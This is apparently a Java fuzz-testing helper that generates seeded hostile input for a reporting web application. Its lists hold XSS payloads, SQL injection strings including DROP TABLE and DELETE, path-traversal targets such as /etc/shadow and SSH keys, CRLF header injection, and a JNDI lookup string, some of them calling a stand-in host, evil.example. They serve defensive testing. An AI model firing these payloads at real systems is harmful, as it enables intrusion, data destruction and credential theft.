package org.raporto.fuzz;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

/**
 * Hostile input for the fuzz tests: text that people and attackers send, raw bytes that are no text at all, JSON that
 * breaks parsers, names and header values. Everything comes from a seeded {@link Random}, so a seed names a run.
 */
public final class Hostile {

    /** Put into hostile text now and then: nothing a reporter writes may reach the log. */
    public static final String SECRET = "fuzz-secret-5f1d";
    /** In every piece of markup below that would run if a page showed it unescaped. */
    public static final String SCRIPT_MARK = "alert(7734)";

    static final List<String> MARKUP = List.of("<script>alert(7734)</script>", "\"><img src=x onerror=alert(7734)>",
            "'><svg onload=alert(7734)>", "</textarea><script>alert(7734)</script>", "</title><script>alert(7734)</script>",
            "<iframe src=javascript:alert(7734)>", "javascript:alert(7734)", "<a href=\"javascript:alert(7734)\">x</a>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<style>*{display:none}</style>", "{{7*7}}${7*7}@{7*7}", "<!--", "]]>",
            "\" onfocus=alert(7734) autofocus=\"", "' onmouseover=alert(7734) x='", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "&lt;script&gt;", "&#x3C;script&#x3E;");
    static final List<String> SQL = List.of("' OR '1'='1", "'; DROP TABLE intake_report; --", "1; SELECT pg_sleep(10)--",
            "' UNION SELECT receipt_hash FROM intake_report--", "\\'; --", "$$; DELETE FROM intake_report; $$", "E'\\x00'",
            "'||(SELECT version())||'", "\" OR \"\"=\"", "%' --", "admin'--", "1 OR 1=1");
    static final List<String> PATHS = List.of("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%c0%af..%c0%afetc/passwd", "/dev/zero", "/proc/self/environ", "file:///etc/shadow", "C:\\boot.ini", "\\\\evil\\share\\x",
            "....//....//etc/passwd", "CON", "aux.png", ".htaccess", "~/.ssh/id_rsa");
    static final List<String> CRLF = List.of("x\r\nX-Injected: 1", "x\r\n\r\n<script>alert(7734)</script>", "%0d%0aX-Injected:%201",
            "\rX-Injected: 1", "\nSet-Cookie: injected=1", "\u0085X-Injected: 1", "\u2028X-Injected: 1", "\r\n.\r\nQUIT\r\n");
    static final List<String> UNICODE = List.of("\u202E", "\u202Dtxt.exe", "\u200B", "\u200C\u200D", "\uFEFF", "\u2066\u2069", "\u061C",
            "\uD83D\uDE00", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\uD83C\uDDE6\uD83C\uDDF1", "e\u0301\u0301\u0301\u0301",
            "Z\u0337\u0321\u0322\u0349a\u0338l\u0335g\u0336o", "\uD83D", "\uDE00", "\uDE00\uD83D", "\uFFFF", "\uFFFE", "\u0000", "\u0007",
            "\u001B[31mred", "ë ç Ë Ç", "ß", "İı", "\uFB01", "ａｂｃ", "\u00A0", "\u3000", "\uD835\uDD4F", "\u0600\u0601", "\u00AD");
    static final List<String> FORMAT = List.of("%s%s%s%n", "{0}{1}", "'{0}", "{0,number,#}", "${jndi:ldap://evil.example/a}",
            "#{7*7}", "%n%n%n", "\\u0000", "\\", "\"", "'", "`");
    static final List<String> NUMBERS = List.of("-1", "0", "1e999", "NaN", "Infinity", "9".repeat(400), "0x10", "-0", "1.0", "2147483648");
    static final List<String> URLS = List.of("javascript:alert(7734)", "data:text/html,<script>alert(7734)</script>", "http://[::1]/",
            "http://xn--/", "https://a..b/", "https://%00/", "https://ex%00ample.com/", "https://" + "a".repeat(300) + ".example/",
            "http://exa mple.com", "http://ａｂｃ.com/", "http://\uD83D\uDCA9.la/", "http://1.2.3.4:99999/", "https://example.com:-1/",
            "//", "https://user:pass@example.org/", "https://example.org/" + "%".repeat(30), "https://example.org/?" + "a=b&".repeat(200),
            "ftp://example.org/", "mailto:x@example.org", "https://example.org/\u0000", "https://127.0.0.1/admin", "https://example.org#<script>",
            "https://EXAMPLE.org:443/./a/../b", "http://0x7f.1/", "https://example.org/" + "\uD83D\uDE00".repeat(500));
    static final List<String> WORDS = List.of("hello", "Komente fyese çdo ditë", "cyberbullying", "TODAY", "UNDER_13", "EMAIL",
            "ANONYMOUS", "PARENT", "INSTAGRAM", "null", "undefined", "true", "[]", "{}", "next", "back", "send", "https://example.org/p");

    /** Byte sequences that are not UTF-8, or are UTF-8 that decoders must not take as it comes. */
    static final List<byte[]> MALFORMED_UTF8 = List.of(bytes(0xC0, 0xAF), bytes(0xE0, 0x80, 0xAF), bytes(0xF0, 0x80, 0x80, 0xAF),
            bytes(0xF8, 0x88, 0x80, 0x80, 0x80), bytes(0xFF), bytes(0xFE), bytes(0x80), bytes(0xBF), bytes(0xE2, 0x82),
            // Lone surrogates, as CESU-8 writes them: a high one, a low one, and an emoji as a pair of them.
            bytes(0xED, 0xA0, 0x80), bytes(0xED, 0xB0, 0x80), bytes(0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80),
            bytes(0xF4, 0x90, 0x80, 0x80), bytes(0x00), bytes(0xEF, 0xBB, 0xBF), bytes(0xFF, 0xFE), bytes(0xC3), bytes(0xC3, 0x28),
            bytes(0xA0, 0xA1), bytes(0xF0, 0x28, 0x8C, 0xBC), bytes(0x1B), bytes(0x7F), bytes(0xC2, 0x85));

    private Hostile() {
    }

    /** The markup among the hostile text, as sent: a page that shows one of these as it is did not escape it. */
    public static List<String> markup() {
        return MARKUP;
    }

    /** One piece of hostile text of one kind. */
    public static Gen<String> piece() {
        return Gen.either(Gen.oneOf(MARKUP), Gen.oneOf(SQL), Gen.oneOf(PATHS), Gen.oneOf(CRLF), Gen.oneOf(UNICODE), Gen.oneOf(FORMAT),
                Gen.oneOf(NUMBERS), Gen.oneOf(URLS), Gen.oneOf(WORDS), control(), Gen.constant(SECRET));
    }

    /**
     * Hostile text: pieces of every kind run together, now and then nothing or only spaces, and now and then huge (past
     * the limits of the forms and the API, so that those limits are met too).
     */
    public static Gen<String> text() {
        Gen<String> mixed = piece().list(1, 4).map(pieces -> String.join("", pieces));
        // Huge by length, not by count: a piece repeated 150,000 times made bodies of 180 MB, which test the network, not the site.
        Gen<String> huge = random -> {
            String piece = piece().next(random);
            int length = Gen.oneOf(300, 3000, 20_000, 70_000, 400_000).next(random);
            return piece.repeat(Math.max(1, length / Math.max(1, piece.length())));
        };
        return random -> {
            int kind = random.nextInt(100);
            if (kind < 5) {
                return huge.next(random);
            }
            if (kind < 9) {
                return Gen.oneOf("", " ", "\t\n", "\r\n\r\n", "\u00A0").next(random);
            }
            return mixed.next(random);
        };
    }

    /** Control characters, C0 and C1, alone and in runs. */
    public static Gen<String> control() {
        return random -> {
            StringBuilder text = new StringBuilder();
            int length = 1 + random.nextInt(8);
            for (int i = 0; i < length; i++) {
                text.append((char) (random.nextBoolean() ? random.nextInt(0x20) : 0x7F + random.nextInt(0x21)));
            }
            return text.toString();
        };
    }

    /** Raw bytes: hostile text as UTF-8 mixed with bytes that are no UTF-8 at all, and now and then noise. */
    public static Gen<byte[]> bytes() {
        Gen<byte[]> piece = Gen.either(text().map(Hostile::utf8), Gen.oneOf(MALFORMED_UTF8), Gen.oneOf(MALFORMED_UTF8), noise(16));
        return piece.list(1, 5).map(Hostile::concat);
    }

    /** Random bytes, up to {@code max} of them. */
    public static Gen<byte[]> noise(int max) {
        return random -> {
            byte[] noise = new byte[1 + random.nextInt(max)];
            random.nextBytes(noise);
            return noise;
        };
    }

    /**
     * Raw bytes as the value of a URL-encoded form field: each byte escaped, or the bytes as they are (with the
     * {@code &}, {@code =}, {@code %} and {@code +} among them), or escapes that are no escapes.
     */
    public static Gen<byte[]> formValue() {
        Gen<byte[]> escaped = bytes().map(Hostile::percentEncoded);
        Gen<byte[]> broken = Gen.oneOf("%", "%G1", "%4", "%%41", "%u0041", "%C0%80", "%ED%A0%80", "%FF%FE", "+%2B+", "&&=&", "==", "%00",
                "a=b=c", "%0d%0aX-Injected:%201", "%E2%80%AE").map(Hostile::utf8);
        return Gen.either(escaped, bytes(), broken, random -> concat(List.of(escaped.next(random), broken.next(random))));
    }

    /** Hostile text as a browser sends a form field: UTF-8, every byte escaped, so that servers take it as it is. */
    public static Gen<byte[]> encodedText() {
        return text().map(Hostile::utf8).map(Hostile::percentEncoded);
    }

    /** A JSON value of any kind, and now and then something that only looks like one. */
    public static Gen<byte[]> jsonValue() {
        return random -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            writeJsonValue(out, random, 0);
            return out.toByteArray();
        };
    }

    /**
     * A JSON object with the given fields (and now and then one it should not have), each present or not, and valid
     * or hostile.
     *
     * @param fields each field with the JSON text of a valid value for it
     */
    public static Gen<byte[]> jsonObject(Map<String, Gen<String>> fields) {
        return random -> {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.write('{');
            boolean first = true;
            for (Map.Entry<String, Gen<String>> field : new TreeMap<>(fields).entrySet()) {
                if (random.nextInt(100) < 30) {
                    continue;
                }
                byte[] value = random.nextInt(100) < 60 ? utf8(field.getValue().next(random)) : jsonValue().next(random);
                first = member(out, first, utf8(jsonString(field.getKey())), value);
                if (random.nextInt(100) < 3) {
                    // The same key twice: parsers differ in which one they keep.
                    first = member(out, false, utf8(jsonString(field.getKey())), jsonValue().next(random));
                }
            }
            if (random.nextInt(100) < 15) {
                byte[] name = Gen.either(Gen.oneOf("__proto__", "constructor", "$where", "", "a".repeat(1000)).map(Hostile::jsonString),
                        text().map(Hostile::jsonString)).map(Hostile::utf8).next(random);
                member(out, first, name, jsonValue().next(random));
            }
            out.write('}');
            return broken(out.toByteArray(), random);
        };
    }

    /**
     * A header value that HTTP clients agree to send: visible ASCII, spaces and tabs, sometimes valid. Never more than
     * 3000 characters: past 8 KB of headers Tomcat answers itself, before the application.
     */
    public static Gen<String> headerValue() {
        Gen<String> garbage = random -> {
            StringBuilder value = new StringBuilder();
            int length = random.nextInt(100) < 5 ? 3000 : random.nextInt(60);
            for (int i = 0; i < length; i++) {
                value.append((char) (random.nextInt(20) == 0 ? '\t' : 0x20 + random.nextInt(0x5F)));
            }
            return value.toString().strip();
        };
        return Gen.either(garbage, Gen.oneOf("*", "en", "sq", "en-GB,en;q=0.9", "sq;q=0", "xx-YY;q=2", "en;q=NaN", "en;q=-1",
                ";;;,,,", "*;q=1e999", "en-" + "a".repeat(200), "sq, en;q=0.5, *;q=0.1", "i-klingon", "zh-Hant-TW-x-private", "en;q=0.5;q=0.9"));
    }

    /** Names of uploaded files: what devices send, and what attackers do. */
    public static Gen<byte[]> fileName() {
        Gen<String> named = Gen.oneOf("screenshot.png", "IMG_0001.JPG", "photo.webp", "", " ", ".png", "a.png.exe", "a.php.png", "x.svg",
                "../../../../etc/passwd", "..\\..\\windows\\system32\\evil.png", "C:\\Users\\child\\Desktop\\chat.png", "/tmp/x.png",
                "<script>alert(7734)</script>.png", "\"quoted\".png", "a\";filename=\"b.png", "x\r\nX-Injected: 1.png",
                "\u202Egnp.exe", "\u0000.png", "CON.png", "a".repeat(2000) + ".png", "\uD83D\uDE00.png", "ë-ç.png", SECRET + ".png");
        return Gen.either(named.map(Hostile::utf8), text().map(Hostile::utf8), bytes());
    }

    private static boolean member(ByteArrayOutputStream out, boolean first, byte[] name, byte[] value) {
        if (!first) {
            out.write(',');
        }
        out.writeBytes(name);
        out.write(':');
        out.writeBytes(value);
        return false;
    }

    private static void writeJsonValue(ByteArrayOutputStream out, Random random, int depth) {
        int kind = random.nextInt(100);
        if (kind < 40 || depth > 3) {
            // Huge text only at the top: nested in arrays, it would multiply past what a test can hold.
            Gen<String> text = depth == 0 ? text() : piece();
            out.writeBytes(random.nextInt(100) < 85 ? utf8(jsonString(text.next(random)))
                    // Raw bytes inside the quotes: no escape can make them UTF-8.
                    : concat(List.of(utf8("\""), bytes().next(random), utf8("\""))));
        }
        else if (kind < 55) {
            out.writeBytes(utf8(Gen.oneOf("0", "-1", "1e999999", "123456789012345678901234567890", "-0.0", "1E-999", "0x10", "NaN",
                    "Infinity", "9".repeat(2000), "1.5", "01", ".5", "+1").next(random)));
        }
        else if (kind < 65) {
            out.writeBytes(utf8(Gen.oneOf("true", "false", "null", "nul", "True", "undefined").next(random)));
        }
        else if (kind < 77) {
            if (random.nextInt(100) < 5) {
                // A long array, of numbers only.
                out.writeBytes(utf8("[" + "1,".repeat(5000) + "1]"));
                return;
            }
            out.write('[');
            int size = random.nextInt(4);
            for (int i = 0; i < size; i++) {
                if (i > 0) {
                    out.write(',');
                }
                writeJsonValue(out, random, depth + 1);
            }
            out.write(']');
        }
        else if (kind < 89) {
            out.write('{');
            int size = random.nextInt(4);
            for (int i = 0; i < size; i++) {
                if (i > 0) {
                    out.write(',');
                }
                out.writeBytes(utf8(jsonString(Gen.oneOf("email", "phone", "a", "", "email").next(random))));
                out.write(':');
                writeJsonValue(out, random, depth + 1);
            }
            out.write('}');
        }
        else {
            // Nesting deep enough to blow a recursive parser's stack, within and beyond the API's 64 KiB.
            int depthOfNesting = Gen.oneOf(100, 1000, 5000, 30_000).next(random);
            boolean arrays = random.nextBoolean();
            out.writeBytes(utf8((arrays ? "[" : "{\"a\":").repeat(depthOfNesting) + "1" + (arrays ? "]" : "}").repeat(depthOfNesting)));
        }
    }

    /** Now and then, a document made invalid: cut short, with bytes slipped in, with a byte-order mark or comments. */
    private static byte[] broken(byte[] json, Random random) {
        int kind = random.nextInt(100);
        if (kind < 80 || json.length < 2) {
            return json;
        }
        if (kind < 85) {
            return java.util.Arrays.copyOf(json, random.nextInt(json.length));
        }
        if (kind < 90) {
            int at = random.nextInt(json.length);
            return concat(List.of(java.util.Arrays.copyOf(json, at), bytes().next(random), java.util.Arrays.copyOfRange(json, at, json.length)));
        }
        if (kind < 95) {
            return concat(List.of(Gen.oneOf(bytes(0xEF, 0xBB, 0xBF), bytes(0xFE, 0xFF), utf8("/* */"), utf8("//\n")).next(random), json));
        }
        return concat(List.of(json, Gen.either(bytes(), Gen.constant(utf8("}")), Gen.constant(utf8(" {}"))).next(random)));
    }

    /**
     * Text as a JSON string literal, escaped as JSON requires. Lone surrogates, which UTF-8 cannot carry, are written as
     * {@code \}{@code uD800} escapes: valid JSON that decodes to invalid UTF-16.
     */
    public static String jsonString(String text) {
        StringBuilder json = new StringBuilder(text.length() + 2).append('"');
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (Character.isHighSurrogate(c) && i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1))) {
                json.append(c).append(text.charAt(++i));
            }
            else if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            }
            else if (c < 0x20 || Character.isSurrogate(c)) {
                json.append(String.format("\\u%04x", (int) c));
            }
            else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }

    public static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] concat(List<byte[]> parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        parts.forEach(out::writeBytes);
        return out.toByteArray();
    }

    public static byte[] percentEncoded(byte[] raw) {
        StringBuilder encoded = new StringBuilder(raw.length * 3);
        for (byte b : raw) {
            encoded.append('%').append(Character.toUpperCase(Character.forDigit((b >> 4) & 0xF, 16)))
                    .append(Character.toUpperCase(Character.forDigit(b & 0xF, 16)));
        }
        return utf8(encoded.toString());
    }

    /**
     * The input as a line of a failure message: printable ASCII as it is, everything else escaped, cut to a length a
     * report can show. The whole input is in the file the failure names.
     */
    public static String describe(byte[] input) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < input.length && text.length() < 600; i++) {
            int b = input[i] & 0xFF;
            text.append(b >= 0x20 && b < 0x7F && b != '\\' ? String.valueOf((char) b) : String.format("\\x%02X", b));
        }
        return input.length > 600 ? text + "… (" + input.length + " bytes)" : text.toString();
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }
}
